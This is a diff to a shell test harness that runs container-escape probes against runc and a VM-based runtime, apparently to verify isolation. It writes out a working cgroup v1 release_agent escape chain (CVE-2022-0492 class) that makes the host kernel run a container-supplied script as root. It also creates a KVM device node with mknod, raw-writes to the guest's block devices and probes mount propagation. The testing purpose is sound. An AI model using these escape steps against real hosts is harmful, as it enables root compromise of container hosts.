@@ -76,9 +76,6 @@ l1_mounts() { grep -c . /proc/self/mountinfo; }
 pod_shim() { ctr task ls | awk -v id="$POD" '$1 == id { print $2 }'; }
 shim_rss_kib() { awk '/^VmRSS/ { print $2 }' "/proc/$(pod_shim)/status" 2>/dev/null; }
 ctd_log_bytes() { stat -c %s "$KS_CTD_RUN/containerd.log"; }
-# What the kernel's usermode helpers (release_agent) see as "/" is L1's initramfs root, not the test
-# host's chroot; l1-init.sh says where the chroot is (nothing on a machine without the nested host).
-l1_root_prefix() { cat /run/ks-l1-root 2>/dev/null || true; }
 
 # ---- running attempts ----
 # timeout runs the ctr binary, not env.sh's ctr function: the address is given here.
@@ -153,7 +150,7 @@ else row host-disk katasharp escaped "$(printf '%s' "$out" | flat)"; fi
 
 # 4. raw writes to every guest block device (the image layers): the host's layer images must not change
 if [ "$(layer_sums)" = "$layers_before" ] && printf '%s\n' "$disk_out" | grep -q '^dev /dev/vd'; then
-  ks_row guest-disks contained "every layer image unchanged after writes to all guest block devices: $(printf '%s\n' "$disk_out" | grep -v '^dev\|^[0-9]\|KS-RAN' | sort -u | flat)" "$disk_out"
+  ks_row guest-disks contained "every layer image unchanged after a write to each guest block device: $(printf '%s\n' "$disk_out" | awk '/^dev /{d=$2; next} /^[0-9]+$/||/KS-RAN/{next} {print d ": " $0}' | flat)" "$disk_out"
 elif [ "$(layer_sums)" = "$layers_before" ]; then row guest-disks katasharp probe-failed "no guest block device was seen: $(printf '%s' "$disk_out" | flat)"
 else row guest-disks katasharp escaped "a host layer image changed"; fi
 row guest-disks runc n/a "runc has no guest disks (its host-disk row covers raw writes)"
@@ -175,11 +172,15 @@ before=$(sysrq_lines)
 out=$(ks_exec sh -c "echo h >/proc/sysrq-trigger$RAN")
 [ "$(sysrq_lines)" -eq "$before" ] && ks_row sysrq contained "L1's kernel untouched: $(printf '%s' "$out" | flat)" "$out" || row sysrq katasharp escaped "L1's kernel printed its sysrq help"
 
-# 7. /dev/kvm: the host's hypervisor
-out=$(runc_run "$PROBE_IMAGE" rc-kvm sh -c '[ -c /dev/kvm ] && echo present || echo absent')
-[ "$(printf '%s' "$out" | tail -n1)" = present ] && row dev-kvm runc host-view "L1's /dev/kvm is in the container" || row dev-kvm runc contained "$out"
-out=$(ks_exec sh -c "[ -c /dev/kvm ] && echo present || echo absent$RAN")
-printf '%s\n' "$out" | grep -qx absent && ks_row dev-kvm contained "no /dev/kvm in the guest" "$out" || row dev-kvm katasharp host-view "$(printf '%s' "$out" | flat)"
+# 7. /dev/kvm: the host's hypervisor. A node proves nothing (a privileged spec lists L1's devices, and
+# mknod makes any number): only an answer to the KVM API (KVM_GET_API_VERSION, a number) reaches a KVM.
+# Under katasharp the container also makes the node itself: the guest kernel must have no KVM behind it.
+kvm_attempt='for d in /dev/kvm /tmp/ks-kvm; do [ "$d" = /tmp/ks-kvm ] && { mknod /tmp/ks-kvm c 10 232 || continue; }; echo "$d: $(katasharp-testtool kvm-api-version "$d" 2>&1)"; done; rm -f /tmp/ks-kvm'
+kvm_answered() { printf '%s\n' "$1" | grep -q '^/[^:]*: [0-9][0-9]*$'; }
+out=$(runc_run "$PROBE_IMAGE" rc-kvm sh -c "$kvm_attempt")
+kvm_answered "$out" && row dev-kvm runc host-view "L1's KVM answered from the container: $(printf '%s' "$out" | flat)" || row dev-kvm runc contained "$(printf '%s' "$out" | flat)"
+out=$(ks_exec sh -c "$kvm_attempt$RAN")
+kvm_answered "$out" && row dev-kvm katasharp host-view "a KVM answered: $(printf '%s' "$out" | flat)" || ks_row dev-kvm contained "no KVM API answered (spec node and mknod 10:232): $(printf '%s' "$out" | grep -v KS-RAN | flat)" "$out"
 
 # 8. kernel module load
 if [ -s "$ks_work/probe-bundle/rootfs/dummy.ko" ]; then
@@ -193,20 +194,25 @@ else
   row module-load katasharp contained "not attempted"
 fi
 
-# 9. cgroup v1 release_agent (CVE-2022-0492 class): the kernel runs a program when a cgroup empties
-release_attempt() { # prefix for the payload path as the kernel sees it
-  printf '%s' "set -e; mkdir -p /cg; mount -t cgroup -o none,name=ksx cgroup /cg; mkdir -p /cg/x; echo 1 >/cg/x/notify_on_release; "
-  printf '%s' "up=\$(sed -n 's/.*upperdir=\\([^,]*\\).*/\\1/p' /proc/self/mountinfo | head -n1); "
-  printf '%s' "printf '#!/bin/sh\\necho escaped >$1/tmp/ks-release-canary\\n' >/payload; chmod +x /payload; "
-  printf '%s' "echo \"$1\$up/payload\" >/cg/release_agent; sh -c 'echo \$\$ >/cg/x/cgroup.procs'; echo armed"
-}
-out=$(runc_run "$PROBE_IMAGE" rc-release sh -c "$(release_attempt "$(l1_root_prefix)")")
+# 9. cgroup v1 release_agent (CVE-2022-0492 class): the kernel runs a program when a cgroup empties.
+# A named v1 hierarchy (no controller) needs nothing of L1's cgroup v2 setup. The kernel runs the agent
+# as root from kernel threads, whose "/" is PID 1's: in L1 that is the test host's chroot (l1-init.sh's
+# PID 1 chroot-ed, and kernel threads share its fs_struct: measured, a path under the initramfs root is
+# not found), so the payload path is the container's overlay upperdir exactly as mountinfo names it.
+# The payload also appends to /ran (a file the container made, written through its upper inode, which
+# the container sees) so the container stays, and keeps its payload, until the kernel has run it.
+release_attempt='set -e; mkdir -p /cg; mount -t cgroup -o none,name=ksx cgroup /cg; mkdir -p /cg/x; echo 1 >/cg/x/notify_on_release
+up=$(sed -n "s/.*upperdir=\([^,]*\).*/\1/p" /proc/self/mountinfo | head -n1); : >/ran
+printf "#!/bin/sh\necho escaped >/tmp/ks-release-canary\necho ran >>$up/ran\n" >/payload; chmod +x /payload
+echo "$up/payload" >/cg/release_agent; sh -c "echo \$\$ >/cg/x/cgroup.procs"; echo "armed $up/payload"
+for i in $(seq 100); do [ -s /ran ] && break; sleep 0.1; done; [ -s /ran ] && echo payload-ran || echo payload-not-run'
+out=$(runc_run "$PROBE_IMAGE" rc-release sh -c "$release_attempt")
 for _ in $(seq 100); do [ -f /tmp/ks-release-canary ] && break; sleep 0.1; done
-[ -f /tmp/ks-release-canary ] && row release-agent runc escaped "L1 ran the container's payload as root" || row release-agent runc contained "$(printf '%s' "$out" | flat)"
+[ -f /tmp/ks-release-canary ] && row release-agent runc escaped "L1 ran the container's payload as root: $(printf '%s' "$out" | flat)" || row release-agent runc contained "$(printf '%s' "$out" | flat)"
 rm -f /tmp/ks-release-canary
-out=$(ks_exec sh -c "($(release_attempt "$(l1_root_prefix)"))$RAN")
+out=$(ks_exec sh -c "($release_attempt)$RAN")
 for _ in $(seq 30); do [ -f /tmp/ks-release-canary ] && break; sleep 0.1; done
-[ -f /tmp/ks-release-canary ] && row release-agent katasharp escaped "L1 ran the container's payload" || ks_row release-agent contained "L1 ran nothing: $(printf '%s' "$out" | flat)" "$out"
+[ -f /tmp/ks-release-canary ] && row release-agent katasharp escaped "L1 ran the container's payload" || ks_row release-agent contained "L1 ran nothing: $(printf '%s' "$out" | grep -v KS-RAN | flat)" "$out"
 
 # 10. cwd through a leaked fd (CVE-2024-21626 class)
 leak=""
@@ -230,15 +236,31 @@ printf '%s' "$out" | grep -q kscanary0 && row host-netns runc host-view "L1's ks
 out=$(ks_run --with-ns network:/proc/1/ns/net "$PROBE_IMAGE" ks-netns sh -c "ip link$RAN")
 printf '%s' "$out" | grep -q kscanary0 && row host-netns katasharp host-view "L1's kscanary0 visible" || ks_row host-netns contained "$(printf '%s' "$out" | flat)" "$out"
 
-# 12. mount propagation: a shared host directory, and a mount made inside the container
+# 12. mount propagation: a shared L1 directory bound rshared, and a mount made inside the container.
+# The container's root must be shared too (--rootfs-propagation shared, what Docker sets for an rshared
+# bind): with runc's default rslave root the bind becomes a slave of L1's mount (measured: "shared:2
+# master:1"), which receives L1's mounts but sends none back, and the row showed nothing.
 prop_dir="$ks_work/prop"; mkdir -p "$prop_dir" && mount --bind "$prop_dir" "$prop_dir" && mount --make-shared "$prop_dir" && mkdir -p "$prop_dir/x"
-out=$(runc_run --mount "type=bind,src=$prop_dir,dst=/prop,options=rbind:rshared" "$PROBE_IMAGE" rc-prop mount -t tmpfs ksprop /prop/x)
+prop_flags=(--rootfs-propagation shared --mount "type=bind,src=$prop_dir,dst=/prop,options=rbind:rshared")
+out=$(runc_run "${prop_flags[@]}" "$PROBE_IMAGE" rc-prop sh -c 'grep " /prop " /proc/self/mountinfo | cut -d" " -f5-7; mount -t tmpfs ksprop /prop/x && echo mounted')
 c=$(grep -c ' ksprop ' /proc/self/mountinfo)
-[ "$c" -gt 0 ] && row mount-propagation runc escaped "the container's mount appeared on L1" || row mount-propagation runc contained "$(printf '%s' "$out" | flat)"
+[ "$c" -gt 0 ] && row mount-propagation runc escaped "the container's mount appeared on L1: $(printf '%s' "$out" | flat)" || row mount-propagation runc contained "$(printf '%s' "$out" | flat)"
 umount "$prop_dir/x" 2>/dev/null
-out=$(ks_run --mount "type=bind,src=$prop_dir,dst=/prop,options=rbind:rshared" "$PROBE_IMAGE" ks-prop sh -c "mount -t tmpfs ksprop /prop/x$RAN")
+# katasharp: the same container (there is no shared filesystem, so the bind of an L1 directory is
+# refused at Create, which the evidence must say), and one with a shared root and no L1 bind, whose
+# own mount must stay in the guest.
+bind_out=$(ks_run "${prop_flags[@]}" "$PROBE_IMAGE" ks-prop sh -c "mount -t tmpfs ksprop /prop/x$RAN")
+out=$(ks_run --rootfs-propagation shared "$PROBE_IMAGE" ks-prop2 sh -c "mkdir -p /mnt && mount -t tmpfs ksprop /mnt && grep -c ' ksprop ' /proc/self/mountinfo$RAN")
 c=$(grep -c ' ksprop ' /proc/self/mountinfo)
-[ "$c" -eq 0 ] && ks_row mount-propagation contained "no mount appeared on L1: $(printf '%s' "$out" | flat)" "$out" || row mount-propagation katasharp escaped "the container's mount appeared on L1"
+case "$(ks_outcome "$bind_out")" in
+  refused) bind_said="the bind of L1's $prop_dir was refused at Create: $(printf '%s' "$bind_out" | grep -o 'NotImplemented.*\|bind mount.*' | head -n1 | cut -d';' -f1)" ;;
+  ran) bind_said="the bind ran in the guest" ;;
+  *) bind_said="" ;;
+esac
+if [ "$c" -gt 0 ]; then row mount-propagation katasharp escaped "the container's mount appeared on L1"
+elif [ -z "$bind_said" ]; then row mount-propagation katasharp probe-failed "the bind attempt neither ran nor was refused: $(printf '%s' "$bind_out" | flat)"
+elif [ "$(ks_outcome "$out")" != ran ]; then row mount-propagation katasharp probe-failed "the shared-root container did not run: $(printf '%s' "$out" | flat)"
+else ks_row mount-propagation contained "no mount appeared on L1; $bind_said; a shared-root container's own tmpfs stayed in the guest (its mountinfo shows $(printf '%s\n' "$out" | head -n1))" "$out"; fi
 
 # 13. the runtime binary through /proc/self/exe (CVE-2019-5736 class): an exec storm into a container
 # whose /bin/probe-sh is "#!/proc/self/exe" (what made runc run itself inside the container)
